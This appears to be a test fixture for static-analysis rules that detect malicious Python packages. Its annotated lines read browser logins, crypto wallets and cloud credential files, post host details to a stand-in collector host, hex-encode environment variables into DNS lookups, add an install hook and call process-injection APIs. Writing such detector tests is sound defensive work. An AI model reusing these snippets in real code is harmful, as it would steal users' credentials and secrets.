# ruff: noqa
# fmt: off
import getpass
import glob
import os
import platform
import socket
import subprocess

import dns.resolver
import requests
from setuptools import setup
from setuptools.command.install import install


def browsers():
    base = os.environ.get("LOCALAPPDATA", "")
    # ruleid: py-browser-wallet-store
    chrome = os.path.join(base, "Google", "Chrome", "User Data", "Default", "Login Data")
    # ruleid: py-browser-wallet-store
    wallets = glob.glob(os.path.expanduser("~/.config/Exodus/exodus.wallet/*"))
    # ruleid: py-browser-wallet-store
    profiles = glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json"))
    # ok: py-browser-wallet-store
    header = {"Cookie": "session=1"}
    # ok: py-browser-wallet-store
    supported = ["MetaMask", "Exodus", "Electrum"]
    return chrome, wallets, profiles, header, supported


def fingerprint():
    # ruleid: py-host-fingerprint
    who = getpass.getuser()
    # ruleid: py-host-fingerprint
    where = platform.node()
    # ruleid: py-host-info-to-network
    requests.post("https://collector.example/i", json={"u": who, "h": where})
    # ruleid: py-data-to-dns, py-raw-network, py-dns-name-from-data
    socket.gethostbyname(who + ".x.example.net")


def dns_exfil():
    for key, value in os.environ.items():
        # ruleid: py-data-to-dns
        dns.resolver.resolve(f"{value.encode().hex()}.{key}.t.example.net")
    # ok: py-data-to-dns, py-dns-name-from-data, py-raw-network
    socket.getaddrinfo(os.environ["DB_HOST"], 5432)
    # ok: py-data-to-dns, py-dns-name-from-data
    socket.getaddrinfo(os.environ.get("CACHE_HOST", "localhost") + ".svc.cluster.local", 6379)


def fine(host):
    # ok: py-host-info-to-network, py-host-fingerprint
    requests.get("https://api.example.com/v1", params={"python": platform.python_version()})
    # ok: py-data-to-dns, py-dns-name-from-data
    # ruleid: py-raw-network
    return socket.gethostbyname(host)


# ruleid: py-install-hook
class PostInstall(install):
    def run(self):
        install.run(self)


# ruleid: py-install-hook
setup(name="x", version="1", cmdclass={"install": PostInstall})
# ok: py-install-hook
setup(name="y", version="1", packages=["y"])


def inject(libc, kernel32, pid):
    # ruleid: py-process-injection
    libc.ptrace(16, pid, 0, 0)
    # ruleid: py-process-injection
    kernel32.WriteProcessMemory(pid, 0, b"", 0, None)
    # ok: py-process-injection
    return libc.getpid()


def dynamic(module, name):
    # ruleid: py-computed-attribute
    fn = getattr(module, name)
    # ok: py-computed-attribute
    ok = getattr(module, "name", None)
    # ruleid: py-computed-attribute
    mod = __import__(name)
    # ruleid: py-process-spawn
    subprocess.run(["ls"], check=True)
    # ok: py-process-spawn
    subprocess_like = {"run": 1}
    # ok: py-raw-network
    sock_name = "socket"
    return fn, ok, mod, subprocess_like, sock_name


def cli_credentials():
    # ruleid: py-cloud-cli-credentials
    adc = os.path.expanduser("~/.config/gcloud/application_default_credentials.json")
    # ruleid: py-cloud-cli-credentials
    vault = open(os.path.join(os.environ["HOME"], ".vault-token")).read()
    # ok: py-cloud-cli-credentials
    project = os.environ.get("GOOGLE_CLOUD_PROJECT")
    # ok: py-cloud-cli-credentials
    tool = "gcloud"
    return adc, vault, project
